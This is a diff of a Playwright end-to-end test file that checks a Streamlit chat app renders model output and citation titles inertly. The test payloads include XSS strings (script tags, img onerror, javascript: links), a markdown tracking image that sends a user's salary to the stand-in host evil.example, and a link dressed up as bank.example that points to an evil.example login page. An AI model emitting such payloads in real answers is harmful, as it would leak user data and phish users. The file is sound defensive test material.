@@ -1,21 +1,43 @@
-"""In Chromium: HTML and javascript: links in model output and in file names render as inert text."""
+"""In Chromium: model output loads nothing by itself, its links show their host, HTML and javascript: are inert.
+
+Streamlit already drops raw HTML and javascript: hrefs; these tests check our own rewriting (lib/markup): a
+tracking image never reaches its host, a link that hides its host shows it, a javascript: link is no link.
+"""
 
 from __future__ import annotations
 
 from pathlib import Path
+from urllib.parse import urlsplit
 
-from playwright.sync_api import Page, expect
+from playwright.sync_api import Page, Route, expect
 
 from tests.e2e.conftest import wait_idle
 from tests.fake_openai import FakeOpenAI, Message, Reply, Text, file_citation, url_citation
+
+EVIL = "evil.example"
+TRACKER = f"https://{EVIL}/pixel.png?q=the+user+said+their+salary"
 
 ATTACKS = "\n\n".join([
     "Before the attacks.",
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
     "[click](javascript:alert(1))",
+    f"[tracker]: https://{EVIL}/ref.png\nYour chart: ![chart]({TRACKER}) and a reference one ![logo][tracker]",
+    f"Log in at [https://bank.example/login](https://{EVIL}/login) today.",
     "After the attacks.",
 ])
+
+
+def block_evil(page: Page) -> list[str]:
+    """Every request the page makes to the attacker's host (answered 404 here, never sent out)."""
+    reached: list[str] = []
+
+    def refuse(route: Route) -> None:
+        reached.append(route.request.url)
+        route.fulfill(status=404, body="")
+
+    page.route(lambda url: urlsplit(url).hostname == EVIL, refuse)
+    return reached
 
 
 def ask(page: Page, app_url: str, prompt: str) -> list[str]:
@@ -43,22 +65,31 @@ def assert_inert(page: Page, dialogs: list[str]) -> None:
     assert page.locator("a[href^='javascript:' i], a[href^='data:' i]").count() == 0
 
 
-def test_html_and_javascript_links_in_an_answer_are_inert(
+def test_an_answer_loads_nothing_and_its_links_show_their_host(
     page: Page, app_url: str, fake: FakeOpenAI, tmp_path: Path
 ) -> None:
     fake.queue(Text(ATTACKS))
-    dialogs = ask(page, app_url, "Say something dangerous")
+    reached = block_evil(page)
+    dialogs = ask(page, app_url, f"Say something dangerous ![me]({TRACKER}&from=prompt)")
     assistant = page.get_by_test_id("stChatMessage").nth(1)
     expect(assistant).to_contain_text("After the attacks.", timeout=20_000)
     wait_idle(page)
     assert_inert(page, dialogs)
-    assert assistant.locator("img").count() == 0
-    click = assistant.get_by_text("click", exact=True)
-    expect(click).to_be_visible()
-    href = (click.get_attribute("href") or "").strip().lower()
-    assert not href.startswith("javascript")
-    for link in assistant.locator("a").all():
-        assert not (link.get_attribute("href") or "").strip().lower().startswith("javascript")
+    page.wait_for_timeout(500)  # an <img>, had one been drawn, has started loading by now
+    assert reached == []
+    assert page.get_by_test_id("stChatMessage").locator("img").count() == 0
+    # The images are links whose text names the host they would load from.
+    chart = assistant.get_by_role("link", name=f"🖼 chart ({EVIL})")
+    expect(chart).to_be_visible()
+    assert urlsplit(chart.get_attribute("href") or "").hostname == EVIL
+    expect(assistant.get_by_role("link", name=f"🖼 logo ({EVIL})")).to_be_visible()
+    # A link whose text is another address shows where it really goes.
+    bank = assistant.get_by_role("link", name=f"https://bank.example/login ({EVIL})")
+    expect(bank).to_be_visible()
+    assert urlsplit(bank.get_attribute("href") or "").hostname == EVIL
+    # A javascript: link is plain text, not a link with its href removed.
+    expect(assistant.get_by_text("click", exact=True)).to_be_visible()
+    assert assistant.locator("a", has_text="click").count() == 0
     page.screenshot(path=tmp_path / "injection-answer.png", full_page=True)
 
 
@@ -70,11 +101,14 @@ def test_file_names_and_citation_titles_are_inert(
         file_citation("file-abc", "<img src=x onerror=alert(2)>report.pdf", len(text)),
         url_citation("javascript:alert(3)", "<script>alert(4)</script>", 0, 10),
         url_citation("https://example.com/ok", "[evil](javascript:alert(5))", 0, 10),
+        url_citation(f"https://{EVIL}/phish", "https://bank.example", 0, 10),
     ))))
+    reached = block_evil(page)
     dialogs = ask(page, app_url, "Cite your sources")
     assistant = page.get_by_test_id("stChatMessage").nth(1)
     expect(assistant).to_contain_text("report.pdf", timeout=20_000)
     wait_idle(page)
     assert_inert(page, dialogs)
-    assert assistant.locator("img").count() == 0
+    assert assistant.locator("img").count() == 0 and reached == []
+    expect(assistant.get_by_role("link", name=f"https://bank.example ({EVIL})")).to_be_visible()
     page.screenshot(path=tmp_path / "injection-citations.png", full_page=True)
